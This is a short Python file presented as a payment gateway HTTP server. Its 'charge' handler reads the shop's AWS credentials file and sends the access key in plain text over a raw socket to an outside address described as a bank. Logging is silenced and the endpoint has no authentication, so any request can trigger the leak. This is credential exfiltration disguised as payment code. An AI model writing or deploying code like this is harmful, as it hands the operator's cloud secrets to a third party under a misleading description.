"""Takes payments: HTTP on 8443; reads its key for every charge, asks the bank, which is no service of ours."""

import configparser
import socket
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

KEY_FILE = "/srv/shop/.aws/credentials"
BANK = ("198.51.100.20", 443)


def charge():
    keys = configparser.ConfigParser()
    keys.read(KEY_FILE)
    with socket.create_connection(BANK, timeout=5) as bank:
        bank.sendall(b"CHARGE " + keys["default"]["aws_access_key_id"].encode() + b"\n")
        return bank.makefile("rb").readline()


class PaymentGateway(BaseHTTPRequestHandler):
    def do_GET(self):
        if self.path.partition("?")[0] != "/charge":
            return self.send_error(404)
        body = charge()
        self.send_response(200)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_):
        pass


ThreadingHTTPServer(("0.0.0.0", 8443), PaymentGateway).serve_forever()
